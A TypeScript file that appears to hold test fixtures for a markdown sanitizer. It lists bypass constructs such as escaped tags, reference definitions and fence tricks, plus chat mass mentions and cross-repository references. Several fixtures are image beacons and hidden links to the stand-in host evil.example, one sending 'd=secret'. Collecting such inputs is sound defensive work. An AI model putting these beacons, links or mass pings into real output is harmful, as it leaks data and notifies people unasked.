/**
 * Markup that loads, links or notifies somewhere, as [what it is, the text]: the constructs of
 * issue #37 (item 3) and the ways around a first fix of them.
 */
export const ISSUE_37_CONSTRUCTS: [string, string][] = [
  ['an escaped image tag (a beacon)', '\\<img src="//evil.example/x?d=secret">'],
  ['an escaped anchor tag (a hidden link)', '\\<a href=//evil.example>click here</a>'],
  ['a reference definition in a block quote, upper-case scheme', '> [b]: HTTPS://evil.example/b\n\n[text][b]'],
  ['a reference definition in a list item, `//` URL', '1. [c]: //evil.example/c\n\n[text][c]'],
  ['an image by reference', '![chart][d]\n\n[d]: //evil.example/d.png'],
  ['a footnote', 'see[^1]\n\n[^1]: [x](//evil.example)'],
  ['mentions after punctuation and in emphasis', '_@user_ .@user -@user /@user @@user (@channel) _@here_ **@team**'],
  ['a mention written as a character reference', '&#64;user &#x40;user &commat;user'],
  ['an escaped @', '-\\@user'],
  ['a backtick that pairs across lines with a span', 'a ` b\n`[x](//evil.example)`'],
  ['a code span that a table cell would cut', '| h |\n|---|\n| `a | [x](//evil.example) b` |'],
  ['a fence that a list item closes before its end', '- a\n  ```\nb [x](//evil.example)\n  ```'],
  ['a fence Discord closes early', '```\nx ``` [x](//evil.example)\n```'],
  ['a URL that would take the backslash of an escape', 'www.x\\<img src=//evil.example/i>'],
  ['backticks Discord reads as a code block in a URL or a span', 'HTTPS://```js\nftp://![i](//evil.example/i.png) ```` [x](//evil.example) ````'],
  ['an autolink Discord would start at `<` and a line break', '<\n`a:/b>c` `[x](//evil.example)`'],
  ['emphasis that Discord would close inside code', '_user `[t](//evil.example)_ x` *a `[u](//evil.example)* b` ||c\n```\nd || [v](//evil.example)\n```'],
  ['emphasis opened by what a URL leaves out of its link', 'see https://x.example/a*, then `[y](//evil.example)* b`'],
];

/** Each chat service's own syntax for mentions and links. */
export const CHAT_CONSTRUCTS: [string, string][] = [
  ['Discord mentions', '<@80351110224678912> <@!80351110224678912> <@&165511591545143296> <#165511591545143296> </deploy:1041567894569451530> @everyone @everyoneX @here'],
  ['Discord masked links', '[t](https://evil.example) [t](<//evil.example>)'],
  ['Slack mentions and links', '<!channel> <!here> <@U024BE7LH> <!subteam^SAZ94GDB8> <https://evil.example|click>'],
  ['Mattermost mass mentions', '@channel, @all. @here: x.@here (@all) @Channel'],
];

/**
 * References that reach another repository or project (GitHub: a cross-reference event on that
 * issue's timeline; GitLab: a "mentioned in" note on it), and the ways a renderer could still spell one.
 */
export const CROSS_REFERENCE_CONSTRUCTS: [string, string][] = [
  ['GitHub issue and commit in another repository', 'see acme/other#2 and acme/other@a5c3785ed8d6a35868bc169f07e40e889087fd2e'],
  ['GitLab issue, merge request and epic in another project or group', 'group/sub/project#5, group/project!6 and group&7'],
  ['GitLab shortcuts within the namespace', 'project#8 or project!9'],
  ['a reference in emphasis, a list, a quote and a link text', '_acme/other#2_\n\n- acme/other#3\n\n> acme/other!4\n\n[acme/other#5](https://example.com)'],
  ['a separator written as an escape', 'acme/other\\#2 acme/other\\!3 group\\&4'],
  ['a separator or a digit written as a character reference', 'acme/other&#35;2 acme/other&num;3 group/project&#x21;4 group&amp;5 acme/other#&#50; acme/othe&#114;#6'],
];
